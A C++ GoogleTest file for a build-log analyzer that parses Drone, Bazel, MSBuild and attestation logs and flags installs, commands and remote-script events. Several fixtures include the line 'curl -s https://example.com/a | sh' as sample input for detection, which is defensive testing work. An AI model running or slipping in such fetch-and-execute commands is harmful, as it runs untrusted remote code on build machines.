#include "analyzer/buildlog/transcript.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <memory>
#include <string>
#include <vector>

#include "analyzer/buildlog/binary_log.h"
#include "analyzer/buildlog/build_log.h"
#include "analyzer/buildlog/step_files.h"
#include "tests/support/reading.h"

namespace assay::buildlog {
namespace {

using ::testing::ElementsAre;
using ::testing::IsEmpty;

test::Reading reading(const std::string& log) {
  return {read_build_log, "build.log", log, ArtifactKind::build_log};
}

const std::string packages =
    "SELECT e.name, l.line, l.\"column\" FROM log_event e JOIN location l ON l.location_id = e.at WHERE "
    "kind = 'package-installed'";

TEST(Transcript, DroneAndWoodpecker) {
  const std::string drone =
      "[{\"pos\":0,\"out\":\"+ pip install demo\\n\",\"time\":0},\n"
      " {\"pos\":1,\"out\":\"Successfully installed demo-1.0\\n\",\"time\":3}]";
  ASSERT_TRUE(looks_like_transcript(drone));
  test::Reading read = reading(drone);
  EXPECT_EQ(read.one("SELECT system FROM log_run"), "drone");
  EXPECT_EQ(read.one(packages), "demo|2|17");
  EXPECT_EQ(read.one("SELECT name FROM log_event WHERE kind = 'command'"), "pip");
  const std::string woodpecker =
      R"([{"line":0,"data":"U3VjY2Vzc2Z1bGx5IGluc3RhbGxlZCBkZW1vLTEuMAo=","time":1},{"line":1,"data":"?","time":2}])";
  test::Reading other = reading(woodpecker);
  EXPECT_EQ(other.one(packages), "demo|1|19");
  EXPECT_THAT(other.outcome().gaps, ElementsAre("data of a message is not base64"));
  EXPECT_FALSE(looks_like_transcript(R"([{"pos":0,"time":1}])"));
}

TEST(Transcript, DroneText) {
  test::Reading read =
      reading("[clone:0] + git init\n[build:0] + pip install demo\n[build:1] Successfully installed demo-1.0\n");
  EXPECT_EQ(read.one("SELECT system FROM log_run"), "drone");
  EXPECT_THAT(read.ask("SELECT name, kind FROM log_step"), ElementsAre("clone|setup", "build|section"));
  EXPECT_EQ(read.one(packages), "demo|3|34");
  // Compilers and test runners print positions in brackets too.
  EXPECT_EQ(reading("[main.c:10] warning\n[main.c:11] warning\n").one("SELECT system FROM log_run"), "plain");
}

TEST(Transcript, BazelEvents) {
  const std::string log =
      R"({"id":{"started":{}},"started":{"uuid":"0a1b-2c3d"}})"
      "\n"
      R"({"id":{"fetch":{"url":"https://example.com/rules.tar.gz"}},"fetch":{"success":true}})"
      "\n"
      R"({"id":{"actionCompleted":{"label":"//a:b"}},"action":{"type":"Genrule","exitCode":2,"commandLine":["/bin/sh","-c","curl -s https://example.com/x | sh"]}})"
      "\n"
      R"({"id":{"progress":{}},"progress":{"stderr":"Successfully installed demo-1.0\n"}})"
      "\n";
  ASSERT_TRUE(looks_like_transcript(log));
  test::Reading read = reading(log);
  EXPECT_EQ(read.one("SELECT system, run FROM log_run"), "bazel|0a1b-2c3d");
  EXPECT_EQ(
      read.one("SELECT e.name, host, l.line FROM log_event e JOIN location l ON l.location_id = e.at WHERE kind = "
               "'url-contacted' AND e.name = 'bazel'"),
      "bazel|example.com|2");
  EXPECT_EQ(read.one("SELECT name FROM log_event WHERE kind = 'remote-script'"), "sh");
  EXPECT_EQ(read.one("SELECT name, failed FROM log_step"), "Genrule //a:b|1");
  EXPECT_EQ(read.one(packages), "demo|4|44");
  EXPECT_THAT(read.outcome().gaps, ElementsAre("the events end before the build does"));
  EXPECT_FALSE(looks_like_transcript(R"({"id":{"other":{}}})"));
  EXPECT_FALSE(looks_like_transcript(R"({"id":7,"started":{}})"));
}

// A binary log of format 18, built record by record.
class Binary {
 public:
  Binary() { bytes_ = std::string("\x12\0\0\0\x12\0\0\0", 8); }
  Binary& text(std::string_view one) {
    number(24, bytes_);
    number(static_cast<unsigned>(one.size()), bytes_);
    bytes_ += one;
    return *this;
  }
  Binary& record(unsigned kind, const std::vector<unsigned>& numbers) {
    std::string content;
    for (const unsigned one : numbers) number(one, content);
    number(kind, bytes_);
    number(static_cast<unsigned>(content.size()), bytes_);
    bytes_ += content;
    return *this;
  }
  std::string ended() const { return bytes_ + '\0'; }
  const std::string& bytes() const { return bytes_; }

 private:
  static void number(unsigned value, std::string& out) {
    for (; value >= 0x80; value >>= 7U) out += static_cast<char>((value & 0x7FU) | 0x80U);
    out += static_cast<char>(value);
  }
  std::string bytes_;
};

TEST(Transcript, BinaryLog) {
  Binary log;
  log.text("Task \"{0}\"")
      .text("Exec")
      .text("curl -s https://example.com/a | sh")
      .text("Successfully installed demo-1.0");
  log.record(7, {4 | 1U << 14U, 10, 1, 11});  // task started: message with one argument
  log.record(12, {0, 12, 11});                // command line
  log.record(11, {4 | 1U << 15U, 13, 2});     // message with importance
  log.record(99, {1, 2, 3});                  // a kind of the future
  ASSERT_TRUE(looks_like_transcript(log.bytes()));
  test::Reading read = reading(log.ended());
  EXPECT_EQ(read.one("SELECT system FROM log_run"), "msbuild");
  EXPECT_EQ(read.one("SELECT name FROM log_step"), "Task \"Exec\"");
  EXPECT_EQ(read.one("SELECT name, host FROM log_event WHERE kind = 'remote-script'"), "sh|example.com");
  EXPECT_EQ(read.one(packages), "demo|0|0");
  EXPECT_EQ(read.outcome().coverage, Coverage::read);
}

TEST(Transcript, BinaryLogThatIsBroken) {
  Binary log;
  log.text("Successfully installed demo-1.0").record(11, {4, 10});
  EXPECT_THAT(reading(log.bytes()).outcome().gaps, ElementsAre("the binary log ends before its last record"));
  EXPECT_EQ(reading(log.bytes()).one(packages), "demo|0|0");
  Binary wild;
  wild.text("x").record(11, {4, 4'000'000'000U}).record(7, {4 | 1U << 14U, 10, 4'000'000'000U}).record(12, {});
  EXPECT_THAT(reading(wild.ended()).ask(packages), IsEmpty());
  EXPECT_THAT(read_transcript(std::string("\x12\0\0\0\x12\0\0\0\x18\xff\xff\xff\xff\x0f"
                                          "abc",
                                          17))
                  .messages,
              IsEmpty());
  const std::string older(
      "\x0e\0\0\0\x18\x0a"
      "some texts",
      16);
  ASSERT_TRUE(looks_like_transcript(older));
  EXPECT_THAT(reading(older).outcome().gaps,
              ElementsAre("a binary log of format 14; only format 18 and later are read"));
  EXPECT_FALSE(looks_like_transcript(std::string(64, '\0')));
}

TEST(Transcript, CommandRunInsideAnEnvelope) {
  const std::string statement =
      R"({"_type":"https://in-toto.io/Statement/v0.1","predicateType":"https://witness.testifysec.com/attestation-collection/v0.1","predicate":{"name":"build","attestations":[{"type":"https://witness.dev/attestations/command-run/v0.1","attestation":{"cmd":["pip","install","demo"],"stdout":"Successfully installed demo-1.0\n","exitcode":1}}]}})";
  test::Reading read(read_command_runs, "a.json", statement, ArtifactKind::attestation);
  EXPECT_EQ(read.one("SELECT system FROM log_run"), "witness");
  EXPECT_EQ(read.one("SELECT name, failed FROM log_step"), "build|1");
  EXPECT_EQ(read.one("SELECT value FROM log_event WHERE kind = 'command'"), "pip install demo");
  test::Reading none(read_command_runs, "a.json", R"({"payload":"e30=","payloadType":"x"})", ArtifactKind::attestation);
  EXPECT_THAT(none.ask("SELECT 1 FROM log_run"), IsEmpty());
}

TEST(Transcript, SpokenTextKnowsItsPlaces) {
  const Spoken text = spoken(
      read_transcript("[{\"pos\":0,\"out\":\"first\\n\",\"time\":0},\n{\"pos\":1,\"out\":\"second\",\"time\":1}]"));
  EXPECT_EQ(text.text, "first\nsecond\n");
  EXPECT_EQ(text.span(0).begin, (Position{1, 17}));
  EXPECT_EQ(text.span(6).begin, (Position{2, 16}));
}

TEST(Msbuild, TextOfTheConsole) {
  const std::string log =
      "MSBuild version 17.9.0 for .NET\nBuild started 1/10/2026 10:00:00 AM.\n     1>Project \"C:\\d\\d.sln\" on node "
      "1 "
      "(default targets).\n     1>CoreCompile:\n         C:\\Program\\csc.exe /noconfig /out:d.dll a.cs\n     "
      "2>PreBuildEvent:\n         curl -s https://example.com/a | sh\n         said this\n     1>Build FAILED.\n";
  test::Reading read = reading(log);
  EXPECT_EQ(read.one("SELECT system FROM log_run"), "msbuild");
  EXPECT_THAT(read.ask("SELECT name, failed FROM log_step WHERE kind = 'section'"),
              ElementsAre("CoreCompile|NULL", "PreBuildEvent|1"));
  EXPECT_THAT(read.ask("SELECT e.name, l.line, l.\"column\" FROM log_event e JOIN location l ON l.location_id = e.at "
                       "WHERE kind = 'command' ORDER BY l.line"),
              ElementsAre("csc|5|10", "curl|7|10"));
}

TEST(StepFiles, AreNotToldTwice) {
  std::vector<Artifact> artifacts;
  std::vector<std::unique_ptr<evidence::Rows>> rows;
  const auto add = [&](const std::string& path, const std::string& started, const std::string& ended) {
    const auto number = static_cast<std::uint32_t>(artifacts.size()) + 1;
    artifacts.push_back({.id = artifact_id(number, 0), .path = path, .kind = ArtifactKind::build_log});
    rows.push_back(std::make_unique<evidence::Rows>(artifacts.back().id));
    rows.back()->add(evidence::LogRunRow{.system = "github", .started = started, .ended = ended});
  };
  add("l.zip!/0_build.txt", "2026-01-10T10:00:00.0000000Z", "2026-01-10T10:09:00.0000000Z");
  add("l.zip!/build/1_Set up job.txt", "2026-01-10T10:00:00.0000000Z", "2026-01-10T10:01:00.0000000Z");
  add("l.zip!/build/2_Run make.txt", "2026-01-10T10:01:00.0000000Z", "2026-01-10T10:10:00.0000000Z");
  add("l.zip!/other/1_Set up job.txt", "2026-01-10T10:00:00.0000000Z", "2026-01-10T10:01:00.0000000Z");
  EXPECT_THAT(repeated_step_files(artifacts, rows), ElementsAre(artifacts[1].id));
}

}  // namespace
}  // namespace assay::buildlog
